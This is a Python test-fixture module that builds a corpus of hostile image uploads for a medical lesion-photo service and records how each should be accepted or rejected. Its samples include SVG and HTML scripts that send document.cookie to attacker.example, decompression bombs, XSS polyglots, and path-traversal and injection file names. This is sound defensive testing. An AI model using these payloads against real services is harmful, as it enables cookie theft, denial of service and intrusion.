"""Build the hostile-upload corpus in memory.

Every case is the bytes a client sends, the file name and content type it claims, and what the service
must do with it, decided from the code that handles uploads:

* ``diagnosis/services/images.py`` read_upload: ``file_too_large`` before anything is decoded;
* ``mlcore/preprocessing.py`` decode_image: ``empty_file``, ``file_too_large``, ``unsupported_format``
  (GIF, PDF, BMP, TIFF, ICO, PSD, SVG, HTML, HEIC/AVIF are sniffed from the first 512 bytes; the client's
  name and content type are never trusted), ``not_an_image`` (Pillow knows no JPEG, PNG or WebP in it),
  ``too_many_pixels``, ``truncated_image`` and ``corrupt_image``;
* ``mlcore/preprocessing.py`` prepare_upload: a JPEG or PNG of clean structure is stored as its own
  compressed pixels with every metadata segment removed (a valid colour profile, Adobe's transform flag,
  PNG transparency and the orientation stay); anything else is decoded in full, turned upright, converted
  to sRGB with transparency over white and re-encoded (a JPEG stays JPEG, PNG and WebP become PNG); either
  way under a random key, and decode_image of the stored file gives the expected upright RGB pixels;
* Django's multipart parser: it keeps only the last path component of a file name and drops
  unprintable characters; a name that ends up empty, ``.`` or ``..`` is no file at all (the API answers
  ``invalid``: "No file was submitted"), and a part header over 1024 bytes fails the whole request
  (the API answers ``parse_error``).

An animated WebP or PNG is accepted: Pillow opens its first frame and decode_image never asks for others.
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass

import numpy as np
from PIL import Image, ImageCms

ACCEPTED = "accepted"
REJECTED = "rejected"

JPEG = "image/jpeg"
PNG = "image/png"

RED = (220, 30, 30)
GREEN = (30, 200, 60)
BLUE = (30, 60, 220)
WHITE = (255, 255, 255)
SKIN = (200, 150, 120)


@dataclass(frozen=True)
class Probe:
    """A pixel of the STORED image (after orientation and conversion) and the colour it must have."""

    x: int
    y: int
    rgb: tuple[int, int, int]
    tolerance: int = 30


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    filename: str
    content_type: str
    outcome: str  # ACCEPTED or REJECTED
    code: str = ""  # REJECTED: the API's `code`
    size: tuple[int, int] | None = None  # ACCEPTED: the stored (width, height)
    stored_type: str = ""  # ACCEPTED: the stored content type
    probes: tuple[Probe, ...] = ()  # ACCEPTED: colours of the stored image
    absent: tuple[bytes, ...] = ()  # ACCEPTED: byte strings the stored file must not contain
    settings: tuple[tuple[str, int], ...] = ()  # Django settings to override while it is uploaded
    portal: bool = False  # also sent through the portal's upload
    portal_code: str = ""  # where the portal refuses differently from the API (see portal_outcome)
    why: str = ""

    def __post_init__(self) -> None:
        assert self.outcome in (ACCEPTED, REJECTED), self.outcome
        if self.outcome == REJECTED:
            assert self.code, f"{self.name}: a rejected case needs its code"
        else:
            assert self.size and self.stored_type, f"{self.name}: an accepted case needs its size and stored type"

    @property
    def accepted(self) -> bool:
        return self.outcome == ACCEPTED


# --- encoders ------------------------------------------------------------------------------------------


def _save(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _jpeg(image: Image.Image, **options) -> bytes:
    options.setdefault("quality", 92)
    return _save(image, "JPEG", **options)


def _png(image: Image.Image, **options) -> bytes:
    return _save(image, "PNG", **options)


def _halves(size: tuple[int, int], left, right, mode: str = "RGB") -> Image.Image:
    """Left half one colour, right half another: enough to check colours and orientation."""
    image = Image.new(mode, size, right)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    return image


def _noise(size: tuple[int, int], seed: int) -> Image.Image:
    """Incompressible pixels, so a file is long enough to cut in the middle of its pixel data."""
    array = np.random.default_rng(seed).integers(0, 256, size=(size[1], size[0], 3), dtype=np.uint8)
    return Image.fromarray(array, mode="RGB")


def _segment(marker: int, payload: bytes) -> bytes:
    assert len(payload) <= 65533, len(payload)
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def _with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    """Insert marker segments right after SOI, where metadata lives."""
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def _sof(jpeg: bytes) -> int:
    """Offset of the baseline frame header (SOF0), found by walking the marker segments."""
    offset = 2
    while jpeg[offset] == 0xFF and jpeg[offset + 1] != 0xC0:
        (length,) = struct.unpack(">H", jpeg[offset + 2 : offset + 4])
        offset += 2 + length
    assert jpeg[offset : offset + 2] == b"\xff\xc0", "no baseline frame header"
    return offset


def _with_sof_size(jpeg: bytes, width: int, height: int) -> bytes:
    """Declare another size in the frame header: (FF C0, length, precision, height, width)."""
    at = _sof(jpeg) + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def _with_chunks(png: bytes, *chunks: bytes) -> bytes:
    """Insert chunks right after IHDR (8-byte signature + 25-byte IHDR chunk), before any pixel data."""
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and png[12:16] == b"IHDR"
    return png[:33] + b"".join(chunks) + png[33:]


def _raw_png(
    width: int,
    height: int,
    *,
    bit_depth: int,
    colour_type: int,
    rows: bytes | None = None,
    idat: bytes | None = None,
    chunks: tuple[bytes, ...] = (),
) -> bytes:
    """A PNG written chunk by chunk, for what Pillow will not write (16-bit colour, lying headers)."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(rows, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def _rows16(pixels: np.ndarray) -> bytes:
    """PNG scanlines (filter type 0) of a (height, width, channels) uint16 array, big-endian."""
    height = pixels.shape[0]
    big_endian = pixels.astype(">u2").reshape(height, -1).view(np.uint8).reshape(height, -1)
    return b"".join(b"\x00" + row.tobytes() for row in big_endian)


def _zeros_idat(width: int, height: int, bytes_per_pixel: int = 1) -> bytes:
    """A genuine compressed pixel stream of an all-zero image, built a row at a time (no big buffer)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + width * bytes_per_pixel)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return b"".join(parts)


def _exif_jpeg(exif: Image.Exif, size=(96, 64), colour=SKIN) -> bytes:
    return _jpeg(Image.new("RGB", size, colour), exif=exif)


def _srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _named_photo() -> bytes:
    """The valid photo sent under hostile names."""
    return _jpeg(_halves((64, 48), RED, BLUE))


def _probes_halves(size: tuple[int, int], left, right, tolerance: int = 30) -> tuple[Probe, ...]:
    width, height = size
    return (
        Probe(width // 4, height // 2, left, tolerance),
        Probe(width - 1 - width // 4, height // 2, right, tolerance),
    )


# --- the corpus ----------------------------------------------------------------------------------------


def _rejected_content() -> list[Case]:
    photo = _jpeg(_noise((96, 96), seed=1), quality=95)
    noisy_png = _png(_noise((64, 64), seed=2))
    idat_at = noisy_png.index(b"IDAT")
    gif = _save(Image.new("P", (16, 16)), "GIF")
    tiff = _save(Image.new("RGB", (16, 16), SKIN), "TIFF")
    bmp = _save(Image.new("RGB", (16, 16), SKIN), "BMP")
    ico = _save(Image.new("RGB", (32, 32), SKIN), "ICO")
    small_jpeg = _jpeg(Image.new("RGB", (32, 32), SKIN))
    svg = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">'
        b'<script>fetch("https://attacker.example/?c="+document.cookie)</script>'
        b'<rect width="64" height="64" fill="brown"/></svg>\n'
    )
    html = (
        b"<!DOCTYPE html>\n<html><head><title>lesion</title></head><body>"
        b"<script>document.location='https://attacker.example/?'+document.cookie</script></body></html>\n"
    )
    pdf = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    comment_svg = _with_segments(small_jpeg, _segment(0xFE, b'<svg onload="alert(1)"></svg>'))
    iccp_bomb = _with_chunks(
        _png(Image.new("RGB", (16, 16), SKIN)), _chunk(b"iCCP", b"bomb\x00\x00" + zlib.compress(b"\x00" * 8_000_000, 9))
    )
    ztxt_bomb = _with_chunks(
        _png(Image.new("RGB", (16, 16), SKIN)),
        _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * 8_000_000, 9)),
    )
    # Width x height declared in the header; the pixel data is a few rows: Pillow's own bomb check stops it at open.
    header_bomb = _raw_png(20_000, 20_000, bit_depth=8, colour_type=0, rows=b"\x00" * 20_001 * 4)
    # A complete, valid PNG: 7000 x 7000 black pixels (49 MP, 147 MB as RGB) in about 50 KB.
    real_bomb = _raw_png(7_000, 7_000, bit_depth=8, colour_type=0, idat=_zeros_idat(7_000, 7_000))
    over_limit = _jpeg(_noise((64, 64), seed=3), quality=95)

    def rejected(name, data, code, *, filename="lesion.jpg", content_type=JPEG, **extra) -> Case:
        return Case(name, data, filename, content_type, REJECTED, code=code, **extra)

    return [
        rejected("zero_bytes", b"", "empty_file", portal=True),
        rejected(
            "random_bytes",
            np.random.default_rng(7).bytes(4096),
            "not_an_image",
            portal=True,
            why="no signature Pillow knows",
        ),
        rejected("text_as_jpeg", b"name,date of birth\nJane Doe,1970-01-01\n" * 10, "not_an_image"),
        rejected("jpeg_truncated", photo[: len(photo) // 2], "truncated_image", portal=True),
        rejected(
            "png_truncated",
            noisy_png[: idat_at + 4000],
            "truncated_image",
            filename="lesion.png",
            content_type=PNG,
            portal=True,
        ),
        rejected("jpeg_header_only", photo[:20], "not_an_image", why="SOI and the start of APP0, no frame header"),
        rejected("png_signature_only", noisy_png[:8], "not_an_image", filename="lesion.png", content_type=PNG),
        rejected(
            "png_bad_ihdr_crc",
            noisy_png[:29] + b"\x00\x00\x00\x00" + noisy_png[33:],
            "not_an_image",
            filename="lesion.png",
            content_type=PNG,
            why="Pillow checks the CRC of IHDR at open",
        ),
        rejected("svg_as_jpeg", svg, "unsupported_format", portal=True),
        rejected("html_as_jpeg", html, "unsupported_format", portal=True),
        rejected("pdf_as_jpeg", pdf, "unsupported_format", portal=True),
        rejected("gif", gif, "unsupported_format", filename="lesion.gif", content_type="image/gif", portal=True),
        rejected("gif_as_jpeg", gif, "unsupported_format"),
        rejected(
            "tiff_little_endian",
            tiff,
            "unsupported_format",
            filename="lesion.tiff",
            content_type="image/tiff",
            portal=True,
        ),
        rejected("tiff_big_endian_as_jpeg", b"MM\x00*\x00\x00\x00\x08" + bytes(64), "unsupported_format"),
        rejected("bmp", bmp, "unsupported_format", filename="lesion.bmp", content_type="image/bmp", portal=True),
        rejected("ico_as_png", ico, "unsupported_format", filename="lesion.png", content_type=PNG),
        rejected("psd_as_jpeg", b"8BPS\x00\x01" + bytes(200), "unsupported_format"),
        rejected(
            "heic_as_jpeg",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200),
            "unsupported_format",
            portal=True,
        ),
        rejected(
            "jpeg_with_svg_in_comment",
            comment_svg,
            "unsupported_format",
            why="a valid JPEG, but '<svg' within its first 512 bytes makes the sniffer call it SVG",
        ),
        rejected(
            "png_bomb_header_20000x20000",
            header_bomb,
            "too_many_pixels",
            filename="bomb.png",
            content_type=PNG,
            portal=True,
            why="400 MP: over Pillow's own limit, refused at open",
        ),
        rejected(
            "png_bomb_valid_7000x7000",
            real_bomb,
            "too_many_pixels",
            filename="bomb.png",
            content_type=PNG,
            why="49 MP: under Pillow's limit, refused by MAX_IMAGE_PIXELS (40 MP) before decoding",
        ),
        rejected("jpeg_bomb_sof_65000x65000", _with_sof_size(small_jpeg, 65_000, 65_000), "too_many_pixels"),
        rejected(
            "jpeg_sof_zero_height",
            _with_sof_size(small_jpeg, 32, 0),
            "not_an_image",
            why="Pillow refuses a frame header of height 0 at open",
        ),
        rejected(
            "png_iccp_bomb",
            iccp_bomb,
            "corrupt_image",
            filename="lesion.png",
            content_type=PNG,
            why="an iCCP chunk of 8 KB that inflates to 8 MB: over Pillow's 1 MB chunk limit",
        ),
        rejected(
            "png_ztxt_bomb",
            ztxt_bomb,
            "corrupt_image",
            filename="lesion.png",
            content_type=PNG,
            why="a zTXt chunk that inflates to 8 MB: over Pillow's 1 MB text chunk limit",
        ),
        rejected(
            "over_max_image_pixels",
            _jpeg(Image.new("RGB", (128, 128), SKIN)),
            "too_many_pixels",
            settings=(("MAX_IMAGE_PIXELS", 100 * 100),),
        ),
        rejected(
            "jpeg_one_byte_over_max_upload_bytes",
            over_limit,
            "file_too_large",
            settings=(("MAX_UPLOAD_BYTES", len(over_limit) - 1),),
        ),
    ]


def _accepted_content() -> list[Case]:
    cases: list[Case] = []

    def accepted(name, data, size, stored_type, *, filename="lesion.jpg", content_type=JPEG, **extra) -> Case:
        case = Case(name, data, filename, content_type, ACCEPTED, size=size, stored_type=stored_type, **extra)
        cases.append(case)
        return case

    # --- metadata: all of it must be gone from the stored file ---
    exif = Image.Exif()
    exif[0x010F] = "Hostile Camera Co"  # Make
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\x00\x00\x00" + b"U" * 60_000  # UserComment, 60 KB
    data = _exif_jpeg(exif)
    assert len(data) > 60_000 and b"Exif" in data[:64]
    accepted(
        "exif_usercomment_60k",
        data,
        (96, 64),
        JPEG,
        absent=(b"Hostile Camera", b"UUUUUUUU", b"ASCII"),
        probes=(Probe(48, 32, SKIN),),
    )

    exif = Image.Exif()
    exif[0x010F] = "Jane Doe's phone"
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)}  # GPS IFD
    data = _exif_jpeg(exif)
    assert b"Exif" in data[:64] and Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)
    accepted(
        "exif_gps_jpeg", data, (96, 64), JPEG, absent=(b"GPS", b"Jane Doe"), portal=True, probes=(Probe(48, 32, SKIN),)
    )

    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to display
    source = _halves((160, 90), RED, BLUE)  # red on the left...
    accepted(
        "exif_orientation_6",
        _jpeg(source, exif=exif),
        (90, 160),
        JPEG,
        probes=(Probe(45, 20, RED), Probe(45, 140, BLUE)),  # ...is on top once upright
        why="stored upright: width and height swapped",
    )

    exif = Image.Exif()
    exif[0x0112] = 9  # not an orientation
    accepted(
        "exif_orientation_invalid",
        _jpeg(_halves((80, 40), RED, BLUE), exif=exif),
        (80, 40),
        JPEG,
        probes=_probes_halves((80, 40), RED, BLUE),
    )

    corrupt_exif = b"Exif\x00\x00MM\x00\x2a\xff\xff\xff\xf0" + b"\xde\xad\xbe\xef" * 64
    data = _with_segments(_jpeg(_halves((80, 40), RED, BLUE)), _segment(0xE1, corrupt_exif))
    accepted(
        "exif_corrupt",
        data,
        (80, 40),
        JPEG,
        probes=_probes_halves((80, 40), RED, BLUE),
        absent=(b"\xde\xad\xbe\xef",),
        why="a broken EXIF block must not reject a good photo",
    )

    xmp = (
        b"http://ns.adobe.com/xap/1.0/\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
        b"<rdf:Description exif:GPSLatitude='51,30.4N' dc:creator='Jane Doe'/></rdf:RDF></x:xmpmeta>"
        + b" " * 40_000
        + b"<?xpacket end='w'?>"
    )
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", 30_000) + b"\x1c\x02\x50" + b"J" * 29_997
    flood = _with_segments(
        _jpeg(Image.new("RGB", (64, 64), SKIN)),
        _segment(0xE1, xmp),
        _segment(0xED, iptc),
        *[_segment(0xE0 + n, b"JUNK" + bytes([n]) * 60_000) for n in (3, 4, 5, 6, 7, 8, 9, 10, 11, 12)],
        _segment(0xFE, b"patient: Jane Doe, DOB 1970-01-01" + b"." * 1000),
    )
    assert len(flood) > 600_000
    accepted(
        "jpeg_metadata_flood",
        flood,
        (64, 64),
        JPEG,
        probes=(Probe(32, 32, SKIN),),
        absent=(b"xmpmeta", b"Jane Doe", b"Photoshop", b"8BIM", b"JUNK", b"1970-01-01"),
        why="XMP with GPS, IPTC, ten 60 KB APPn segments and a comment: 640 KB of metadata",
    )

    junk_icc = np.random.default_rng(4).bytes(200_000)
    data = _jpeg(_halves((64, 32), RED, BLUE), icc_profile=junk_icc)
    assert data.count(b"ICC_PROFILE") >= 4
    accepted(
        "jpeg_icc_garbage_200k",
        data,
        (64, 32),
        JPEG,
        probes=_probes_halves((64, 32), RED, BLUE),
        absent=(b"ICC_PROFILE", junk_icc[:16]),
        why="a 200 KB profile in four APP2 chunks that is no profile",
    )

    accepted(
        "jpeg_icc_srgb",
        _jpeg(_halves((64, 32), RED, BLUE), icc_profile=_srgb_profile()),
        (64, 32),
        JPEG,
        probes=_probes_halves((64, 32), RED, BLUE),
        why="a valid colour profile stays with the pixels (prepare_upload)",
    )

    junk_icc = np.random.default_rng(5).bytes(300_000)
    data = _png(_halves((32, 32), RED, BLUE), icc_profile=junk_icc)
    assert b"iCCP" in data and len(data) > 300_000
    accepted(
        "png_iccp_garbage_300k",
        data,
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), RED, BLUE, tolerance=2),
        absent=(b"iCCP",),
    )

    text = b"lorem ipsum dolor sit amet, patient Jane Doe " * 20_000  # 900 KB inflated, under the 1 MB limit
    data = _with_chunks(_png(_halves((32, 32), RED, BLUE)), _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(text)))
    accepted(
        "png_ztxt_large",
        data,
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), RED, BLUE, tolerance=2),
        absent=(b"zTXt", b"tEXt", b"iTXt"),
    )

    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)}
    data = _png(Image.new("RGB", (24, 24), SKIN), exif=exif)
    assert b"eXIf" in data
    accepted(
        "png_exif_gps",
        data,
        (24, 24),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=(Probe(12, 12, SKIN, 2),),
        absent=(b"eXIf", b"GPS"),
    )

    data = _save(Image.new("RGB", (24, 24), SKIN), "WEBP", lossless=True, exif=exif)
    assert b"EXIF" in data
    accepted(
        "webp_exif_gps",
        data,
        (24, 24),
        PNG,
        filename="lesion.webp",
        content_type="image/webp",
        probes=(Probe(12, 12, SKIN, 2),),
        absent=(b"eXIf", b"GPS", b"EXIF"),
    )

    # --- pixel formats: all stored as 8-bit RGB ---
    gray16 = np.empty((32, 32, 1), dtype=np.uint16)
    gray16[:, :16], gray16[:, 16:] = 65535, 16384  # white | 25 % grey
    data = _raw_png(32, 32, bit_depth=16, colour_type=0, rows=_rows16(gray16))
    assert Image.open(io.BytesIO(data)).mode == "I;16"
    accepted(
        "png_16bit_gray",
        data,
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), WHITE, (64, 64, 64), tolerance=2),
    )

    dark16 = np.full((16, 16, 1), 200, dtype=np.uint16)  # 200 of 65535: nearly black, whatever the mode
    accepted(
        "png_16bit_gray_dark",
        _raw_png(16, 16, bit_depth=16, colour_type=0, rows=_rows16(dark16)),
        (16, 16),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=(Probe(8, 8, (1, 1, 1), 2),),
    )

    rgb16 = np.empty((32, 32, 3), dtype=np.uint16)
    rgb16[:, :16], rgb16[:, 16:] = (0xDC00, 0x1E00, 0x1E00), (0x1E00, 0x3C00, 0xDC00)
    accepted(
        "png_16bit_rgb",
        _raw_png(32, 32, bit_depth=16, colour_type=2, rows=_rows16(rgb16)),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), RED, BLUE, tolerance=2),
    )

    rgba16 = np.empty((32, 32, 4), dtype=np.uint16)
    rgba16[:, :16], rgba16[:, 16:] = (0xFFFF, 0, 0, 0), (0x1E00, 0x3C00, 0xDC00, 0xFFFF)  # transparent | blue
    accepted(
        "png_16bit_rgba",
        _raw_png(32, 32, bit_depth=16, colour_type=6, rows=_rows16(rgba16)),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), WHITE, BLUE, tolerance=2),
    )

    cmyk = _halves((64, 32), (0, 255, 255, 0), (255, 0, 0, 0), mode="CMYK")  # red | cyan in ink
    data = _jpeg(cmyk)
    assert Image.open(io.BytesIO(data)).mode == "CMYK"
    accepted(
        "jpeg_cmyk",
        data,
        (64, 32),
        JPEG,
        probes=_probes_halves((64, 32), (255, 0, 0), (0, 255, 255), 40),
        why="Adobe's APP14 stays: it says how to read the inks",
    )

    palette = Image.new("P", (32, 32), 0)
    palette.putpalette([*RED, *GREEN] + [0, 0, 0] * 254)
    palette.paste(1, (16, 0, 32, 32))
    accepted(
        "png_palette_transparent",
        _png(palette, transparency=0),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), WHITE, GREEN, tolerance=2),
        why="palette index 0 (red) is transparent: white when decoded",
    )

    accepted(
        "png_palette",
        _png(palette),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), RED, GREEN, tolerance=2),
    )

    accepted(
        "png_grayscale",
        _png(_halves((32, 32), 40, 200, mode="L")),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), (40, 40, 40), (200, 200, 200), tolerance=2),
    )

    accepted(
        "png_grayscale_alpha",
        _png(_halves((32, 32), (0, 0), (50, 255), mode="LA")),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), WHITE, (50, 50, 50), 2),
    )

    rgba = Image.new("RGBA", (48, 16), (0, 0, 0, 128))  # half-transparent black: mid grey on white
    rgba.paste((255, 0, 0, 0), (0, 0, 16, 16))  # fully transparent red: white
    rgba.paste((*BLUE, 255), (32, 0, 48, 16))
    accepted(
        "png_rgba",
        _png(rgba),
        (48, 16),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        portal=True,
        probes=(Probe(8, 8, WHITE, 2), Probe(24, 8, (127, 127, 127), 3), Probe(40, 8, BLUE, 2)),
    )

    accepted(
        "png_rgb_transparent_key",
        _png(_halves((32, 32), GREEN, RED), transparency=GREEN),
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((32, 32), WHITE, RED, tolerance=2),
        why="a tRNS colour key: green pixels are transparent",
    )

    accepted(
        "webp_alpha",
        _save(_halves((32, 32), (*RED, 0), (*BLUE, 255), mode="RGBA"), "WEBP", lossless=True),
        (32, 32),
        PNG,
        filename="lesion.webp",
        content_type="image/webp",
        probes=_probes_halves((32, 32), WHITE, BLUE, tolerance=2),
    )

    frames = [Image.new("RGB", (32, 32), colour) for colour in (RED, BLUE, GREEN)]
    data = _save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100, loop=0, lossless=True)
    assert getattr(Image.open(io.BytesIO(data)), "n_frames", 1) == 3
    accepted(
        "webp_animated",
        data,
        (32, 32),
        PNG,
        filename="lesion.webp",
        content_type="image/webp",
        probes=(Probe(16, 16, RED, 2),),
        why="accepted: the first frame is kept, the others are ignored",
    )

    data = _save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
    assert b"acTL" in data and Image.open(io.BytesIO(data)).n_frames == 3
    accepted(
        "png_animated_apng",
        data,
        (32, 32),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        probes=(Probe(16, 16, RED, 2),),
        absent=(b"acTL", b"fcTL", b"fdAT"),
        why="accepted: the first frame is kept, the others are ignored",
    )

    accepted(
        "jpeg_progressive",
        _jpeg(_halves((64, 32), RED, BLUE), progressive=True),
        (64, 32),
        JPEG,
        probes=_probes_halves((64, 32), RED, BLUE),
    )

    # --- polyglots: the stored file is re-encoded pixels, so nothing else survives ---
    photo = _jpeg(_noise((48, 48), seed=6), quality=90)
    assert len(photo) > 512  # beyond the sniffer's window
    payload = b"<html><body><script>alert(document.cookie)</script></body></html>"
    accepted(
        "polyglot_jpeg_html_after_eoi",
        photo + payload,
        (48, 48),
        JPEG,
        portal=True,
        absent=(b"<html", b"<script", b"alert("),
    )

    data = _with_segments(_jpeg(Image.new("RGB", (32, 32), SKIN)), _segment(0xFE, payload))
    accepted(
        "jpeg_html_in_comment",
        data,
        (32, 32),
        JPEG,
        absent=(b"<html", b"<script"),
        probes=(Probe(16, 16, SKIN),),
        why="the sniffer only refuses text that STARTS as HTML",
    )

    # --- names and types that lie about the content ---
    accepted(
        "jpeg_declared_png",
        _jpeg(_halves((40, 40), RED, BLUE)),
        (40, 40),
        JPEG,
        filename="lesion.png",
        content_type=PNG,
        probes=_probes_halves((40, 40), RED, BLUE),
    )
    accepted(
        "png_named_jpeg",
        _png(_halves((40, 40), RED, BLUE)),
        (40, 40),
        PNG,
        probes=_probes_halves((40, 40), RED, BLUE, tolerance=2),
    )
    accepted(
        "webp_declared_octet_stream",
        _save(Image.new("RGB", (20, 20), SKIN), "WEBP", lossless=True),
        (20, 20),
        PNG,
        filename="blob",
        content_type="application/octet-stream",
        probes=(Probe(10, 10, SKIN, 2),),
    )

    # --- shapes and limits ---
    accepted(
        "one_pixel",
        _png(Image.new("RGB", (1, 1), RED)),
        (1, 1),
        PNG,
        filename="dot.png",
        content_type=PNG,
        probes=(Probe(0, 0, RED, 2),),
    )
    accepted("one_pixel_jpeg", _jpeg(Image.new("RGB", (1, 1), SKIN)), (1, 1), JPEG, probes=(Probe(0, 0, SKIN),))
    accepted(
        "extreme_aspect_10000x2",
        _png(_halves((10_000, 2), RED, BLUE)),
        (10_000, 2),
        PNG,
        filename="strip.png",
        content_type=PNG,
        probes=_probes_halves((10_000, 2), RED, BLUE, tolerance=2),
    )
    accepted(
        "extreme_aspect_2x10000_jpeg",
        _jpeg(Image.new("RGB", (2, 10_000), SKIN)),
        (2, 10_000),
        JPEG,
        probes=(Probe(1, 5_000, SKIN),),
    )

    at_limit = _jpeg(_noise((64, 64), seed=3), quality=95)
    accepted("jpeg_exactly_max_upload_bytes", at_limit, (64, 64), JPEG, settings=(("MAX_UPLOAD_BYTES", len(at_limit)),))
    accepted(
        "exactly_max_image_pixels",
        _png(Image.new("RGB", (100, 100), SKIN)),
        (100, 100),
        PNG,
        filename="lesion.png",
        content_type=PNG,
        settings=(("MAX_IMAGE_PIXELS", 100 * 100),),
    )
    return cases


# Client file names, exactly as a hostile client sends them (see tests/test_corpus.py multipart_body).
TRAVERSAL_UNIX = "../../etc/passwd.jpg"
TRAVERSAL_WINDOWS = "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts.jpg"
ABSOLUTE = "/var/www/html/shell.php.jpg"
UNICODE_CONTROL = "lésion\x00\r\n.jpg"
RTL_OVERRIDE = "lesion\u202egpj.exe"
HTML_NAME = '"><img src=x onerror=alert(1)>.jpg'
LONG_300 = "L" * 296 + ".jpg"
LONG_10000 = "N" * 9996 + ".jpg"


def _names() -> list[Case]:
    photo = _named_photo()
    probes = _probes_halves((64, 48), RED, BLUE)

    def named(name, filename, **extra) -> Case:
        return Case(
            name, photo, filename, JPEG, ACCEPTED, size=(64, 48), stored_type=JPEG, probes=probes, portal=True, **extra
        )

    def refused(name, filename, code, portal_code, **extra) -> Case:
        return Case(name, photo, filename, JPEG, REJECTED, code=code, portal=True, portal_code=portal_code, **extra)

    return [
        named("name_traversal_unix", TRAVERSAL_UNIX),
        named("name_traversal_windows", TRAVERSAL_WINDOWS),
        named("name_absolute_path", ABSOLUTE),
        named("name_unicode_control", UNICODE_CONTROL, why="sent as filename*=UTF-8''… so NUL, CR and LF arrive"),
        named("name_rtl_override", RTL_OVERRIDE),
        named("name_html", HTML_NAME),
        named("name_300_chars", LONG_300),
        refused("name_dot_dot", "..", "invalid", "no_files", why="Django drops the part: no file was submitted"),
        refused("name_empty", "", "invalid", "no_files", why="an empty name is a form with no file chosen"),
        refused(
            "name_10000_chars",
            LONG_10000,
            "parse_error",
            "bad_request",
            why="the part header is over Django's 1024-byte limit: the whole request is refused",
        ),
    ]


def build_corpus() -> list[Case]:
    cases = _rejected_content() + _accepted_content() + _names()
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
